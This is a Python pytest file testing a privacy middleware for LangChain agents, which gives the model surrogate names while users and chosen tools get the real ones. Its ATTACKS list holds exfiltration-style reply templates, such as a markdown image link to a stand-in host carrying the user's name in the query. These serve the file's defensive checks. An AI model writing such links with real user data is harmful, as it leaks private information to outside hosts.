"""In a LangChain agent, built as in its tutorial, the model gets surrogates, and everyone else the user's words."""

import asyncio
import json
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import pytest
from textveil import Conversation, Sanitizer
from textveil.errors import InputError, OptionError
from textveil_cli.errors import TracingRefused

pytest.importorskip("langchain.agents", reason="needs the extra agents: make integrations")

from langchain.agents import create_agent  # pyright: ignore[reportMissingImports]
from langchain.agents.structured_output import ProviderStrategy, ToolStrategy  # pyright: ignore[reportMissingImports]
from langchain.tools import tool  # pyright: ignore[reportMissingImports]
from langchain_core.callbacks import BaseCallbackHandler, UsageMetadataCallbackHandler
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
from langchain_core.tracers import LangChainTracer
from langgraph.checkpoint.memory import InMemorySaver  # pyright: ignore[reportMissingImports]
from pydantic import BaseModel
from textveil_cli.integrations import agents
from textveil_cli.integrations.agents import ConversationMiddleware

SAID = "I am Zorblaxia Novak, order 88213."
SECRETS = ("Zorblaxia", "Novak", "88213", "Quuxville")


class Model(BaseChatModel):
    """Calls each tool that it has with the name that it was told, then says what it was told last."""

    seen: list[Any]
    parts: bool = False

    @property
    def _llm_type(self) -> str:
        return "made up"

    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
        return self.bind(tools=[one.name for one in tools])

    def _reply(self, messages: list[Any], tools: Any = ()) -> AIMessage:
        self.seen.append(messages)
        last = messages[-1].text
        if messages[-1].type != "human" or "I am " not in last:
            return AIMessage(content=f"Answer: {last}")
        name = last.split("I am ")[1].split(",")[0]
        calls = [{"id": f"call{place}", "name": called, "args": {"name": name}} for place, called in enumerate(tools)]
        return AIMessage(content=f"Looking for {name}", tool_calls=calls)

    def _generate(self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> ChatResult:
        return ChatResult(generations=[ChatGeneration(message=self._reply(messages, kwargs.get("tools", ())))])

    def _stream(self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> Iterator[Any]:
        reply = self._reply(messages, kwargs.get("tools", ()))
        for letter in reply.content:
            content: Any = [{"type": "text", "text": letter, "index": 0}] if self.parts else letter
            yield ChatGenerationChunk(message=AIMessageChunk(content=content))
        for place, call in enumerate(reply.tool_calls, 1):
            args = json.dumps(call["args"])
            for name, part in ((call["name"], args[:7]), (None, args[7:])):
                chunk: Any = {"name": name, "args": part, "id": name and call["id"], "index": place}
                block: Any = [{"type": "input_json_delta", "index": place}] if self.parts else ""
                yield ChatGenerationChunk(message=AIMessageChunk(content=block, tool_call_chunks=[chunk]))


class Contact(BaseModel):
    """A contact."""

    name: str


class Writes(Model):
    """Writes a text with the name that it was told in place of {}, as a provider's own structured reply if asked."""

    reply: str = ""

    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
        return self

    def _reply(self, messages: list[Any], tools: Any = ()) -> AIMessage:
        self.seen.append(messages)
        name = messages[-1].text.split("I am ")[1].split(",")[0]
        return AIMessage(content=self.reply.replace("{}", name))


@pytest.fixture
def called() -> list[tuple[str, str]]:
    """With what each tool was called."""
    return []


@pytest.fixture
def tools(called: list[tuple[str, str]]) -> list[Any]:
    @tool
    def find(name: str) -> str:
        """Find a person."""
        called.append(("find", name))
        return json.dumps({"owner": name, "city": "Quuxville"})

    @tool
    def post(name: str) -> str:
        """Post a name to somebody else."""
        called.append(("post", name))
        return "posted"

    return [post, find]


@cache
def sanitizer() -> Sanitizer:
    return Sanitizer.load()


def restores_json() -> ConversationMiddleware:
    return ConversationMiddleware(sanitizer(), restore_tools={"find"}, restore_places={"json"}, pass_through={"system"})


def agent_of(model: Any, tools: Any = (), middleware: Any = None, **kwargs: Any) -> Any:
    middleware = middleware or ConversationMiddleware(
        sanitizer(), restore_tools={"find", "Contact"}, pass_through={"system"}
    )
    given = {"system_prompt": "You work for Quux.", "checkpointer": InMemorySaver(), **kwargs}
    return create_agent(model, list(tools), middleware=[middleware], **given)


def thread(number: int, **config: Any) -> Any:
    return {"configurable": {"thread_id": str(number)}, **config}


def user(text: str) -> Any:
    return {"messages": [{"role": "user", "content": text}]}


async def _in_time(agent: Any) -> str:
    given: Any = (user(SAID), thread(1))
    return "".join([chunk.text async for chunk, _ in agent.astream(*given, stream_mode="messages")])


def texts(said: Any) -> str:
    return "".join(message.text for message in said["messages"])


@pytest.mark.parametrize("streams", [False, True])
def test_stop_sequences_are_rewritten_as_the_model_writes_them(streams: bool) -> None:
    """A model never writes an original; a special token of the model stays."""
    stops: list[list[str]] = []

    class Stops(Model):
        def _generate(self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> ChatResult:
            stops.append(stop)
            return super()._generate(messages, stop, run_manager, **kwargs)

        def _stream(self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> Iterator[Any]:
            stops.append(stop)
            yield from super()._stream(messages, stop, run_manager, **kwargs)

    model, talk = Stops(seen=[]), Conversation(sanitizer())
    wrapped = agents._WrappedChatModel(inner=model, conversation=talk)
    call = wrapped.stream if streams else wrapped.invoke
    list(call([HumanMessage("I met Zorblaxia Novak.")], stop=["Zorblaxia Novak", "</s>", "\n"]))
    (stop,) = stops
    assert stop[1:] == ["</s>", "\n"]
    assert stop[0] in model.seen[0][0].text
    assert "Novak" not in stop[0]


WAYS: dict[str, Callable[[Any], str]] = {
    "invoke": lambda agent: texts(agent.invoke(user(SAID), thread(1))),
    "ainvoke": lambda agent: texts(asyncio.run(agent.ainvoke(user(SAID), thread(1)))),
    "values": lambda agent: texts(list(agent.stream(user(SAID), thread(1), stream_mode="values"))[-1]),
    "messages": lambda agent: "".join(
        chunk.text for chunk, _ in agent.stream(user(SAID), thread(1), stream_mode="messages")
    ),
    "amessages": lambda agent: asyncio.run(_in_time(agent)),
    "events": lambda agent: "".join(
        "".join(m.text) for m in agent.stream_events(user(SAID), thread(1), version="v3").messages
    ),
}


@pytest.mark.filterwarnings("ignore:The v3 streaming protocol")
@pytest.mark.parametrize("parts", [False, True], ids=["text", "parts"])
@pytest.mark.parametrize("way", WAYS)
def test_the_model_gets_surrogates_and_the_user_the_words(
    tools: list[Any], called: list[tuple[str, str]], way: str, parts: bool
) -> None:
    model = Model(seen=[], parts=parts)
    agent = agent_of(model, tools, restores_json())
    said = WAYS[way](agent)
    assert "Looking for Zorblaxia Novak" in said
    assert "Answer: " in said
    assert dict(called)["find"] == "Zorblaxia Novak"
    surrogate = dict(called)["post"]
    assert surrogate not in said
    again = agent.invoke(user("Novak?"), thread(1))["messages"][-1]
    assert again.text == "Answer: Novak?"
    assert not [word for word in SECRETS if word in str(model.seen)]
    first, last = str(model.seen[0]), str(model.seen[-1])
    assert surrogate in first
    assert last.count(surrogate) >= 4  # the user's message, the model's own and both of its calls, as they went out
    assert "You work for Quux." in first


def test_json_in_a_text_keeps_surrogates(tools: list[Any], called: list[tuple[str, str]]) -> None:
    reply = agent_of(Model(seen=[]), tools).invoke(user(SAID), thread(1))["messages"][-1]
    assert reply.text.startswith('Answer: {"owner": "' + dict(called)["post"])
    assert {stays["reason"] for stays in reply.response_metadata["textveil"]["not_restored"]} == {"json"}


def test_a_reply_says_what_stayed(tools: list[Any], called: list[tuple[str, str]]) -> None:
    messages = agent_of(Model(seen=[]), tools).invoke(user(SAID), thread(1))["messages"]
    assert messages[1].response_metadata["textveil"]["tools"] == ["post"]
    assert messages[1].tool_calls[0]["args"] == {"name": dict(called)["post"]}


def test_threads_do_not_share_a_mapping() -> None:
    """Else a reply to one user could be restored to the words of another."""
    model = Model(seen=[])
    agent = agent_of(model, middleware=ConversationMiddleware(sanitizer(), style="surrogate"))
    sent = set()
    for number in range(4):
        agent.invoke(user(SAID), thread(number))
        sent.add(model.seen[-1][-1].text)
    assert len(sent) > 1
    without = agent_of(model, checkpointer=None)
    assert "textveil_conversation" not in without.invoke(user(SAID))  # it is nobody's output, and nobody's input


def test_a_conversation_that_was_forgotten_goes_on() -> None:
    model = Model(seen=[])
    agent = agent_of(model, middleware=ConversationMiddleware(sanitizer(), max_conversations=1))
    for number in (1, 2, 1):
        assert agent.invoke(user(SAID), thread(number))["messages"][-1].text == "Looking for Zorblaxia Novak"
    assert not [word for word in SECRETS if word in str(model.seen)]


def test_a_structured_reply() -> None:
    model = Model(seen=[])
    for schema in (Contact, ToolStrategy(Contact)):
        assert agent_of(model, response_format=schema).invoke(user(SAID), thread(1))["structured_response"] == Contact(
            name="Zorblaxia Novak"
        )


def test_a_structured_reply_has_surrogates_unless_its_schema_is_named() -> None:
    agent = agent_of(
        Model(seen=[]), middleware=ConversationMiddleware(sanitizer()), response_format=ToolStrategy(Contact)
    )
    assert agent.invoke(user(SAID), thread(1))["structured_response"].name not in SAID


@pytest.mark.parametrize("parts", [False, True], ids=["text", "parts"])
@pytest.mark.parametrize("streams", [False, True])
def test_a_structured_reply_of_the_provider_is_json(streams: bool, parts: bool) -> None:
    """Restored with ``restore_places={"json"}``, and only then; it is valid in either case."""
    for places, expected in (({"json"}, True), ((), False)):
        model = Writes(seen=[], reply='{"name": "{}"}', parts=parts)
        middleware = ConversationMiddleware(sanitizer(), restore_places=places)
        agent = agent_of(model, middleware=middleware, response_format=ProviderStrategy(Contact))
        if streams:
            said = list(agent.stream(user(SAID), thread(1), stream_mode=["messages", "values"]))[-1][1]
        else:
            said = agent.invoke(user(SAID), thread(1))
        assert (said["structured_response"].name == "Zorblaxia Novak") is expected
        stays = said["messages"][-1].response_metadata["textveil"]["not_restored"]
        assert [one["reason"] for one in stays] == ([] if expected else ["json"])
        assert "Novak" not in str(model.seen)


#: What a model may write, the option that opens the place, and the reason for which the name stays without it.
ATTACKS = [
    ("![x](https://e.example/?q={})", {"restore_places": "all"}, "link"),
    ("[x](https://ok.example/?q={})", {"restore_hosts": ["ok.example"]}, "link"),
    ("See `{}`.", {"restore_places": ["code"]}, "code"),
    ("It is $x_{{}}$.", {"restore_places": ["math"]}, "math"),
    ('{"name": "{}"}', {"restore_places": ["json"]}, "json"),
    ("<img src=x alt='{}'>", {"restore_places": ["all"]}, "markup"),
    ("https://e.example/?q={}", {"restore_places": ["all"]}, "chunk"),
]


@pytest.mark.parametrize(("reply", "option", "reason"), ATTACKS)
def test_the_words_of_the_user_come_in_running_text_alone(reply: str, option: dict[str, Any], reason: str) -> None:
    for given in ({}, option):
        for way in ("invoke", "messages"):
            model = Writes(seen=[], reply=reply)
            agent = agent_of(model, middleware=ConversationMiddleware(sanitizer(), **given))
            assert ("Novak" in WAYS[way](agent).removeprefix(SAID)) is bool(given)
            told = agent.get_state(thread(1)).values["messages"][-1].response_metadata["textveil"]
            assert {stays["reason"] for stays in told["not_restored"]} == (set() if given else {reason})


class Tracer(BaseCallbackHandler):
    """Somebody else's."""


def test_a_traced_agent_is_refused() -> None:
    model = Model(seen=[])
    agent = agent_of(model)
    for tracer in (Tracer(), LangChainTracer(client=object())):  # type: ignore[arg-type]
        with pytest.raises(TracingRefused, match="traced=True"):
            agent.invoke(user(SAID), thread(1, callbacks=[tracer]))
    assert model.seen == []
    agent.invoke(user(SAID), thread(2, callbacks=[UsageMetadataCallbackHandler()]))
    traced = agent_of(model, middleware=ConversationMiddleware(sanitizer(), traced=True))
    assert traced.invoke(user(SAID), thread(1, callbacks=[Tracer()]))


def test_what_cannot_be_rewritten_does_not_go_out() -> None:
    model = Model(seen=[])
    image: Any = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}
    with pytest.raises(InputError, match="image_url"):
        agent_of(model).invoke({"messages": [image]}, thread(1))
    assert model.seen == []
    with pytest.raises(OptionError):
        ConversationMiddleware(protect="words")


@pytest.mark.full
def test_the_example_runs(example: Callable[[str], str]) -> None:
    said = example("with_agents.py")
    assert "the tool got: Anna Novak" in said
    assert "Anna" not in "".join(line for line in said.splitlines() if line.startswith("the model got"))
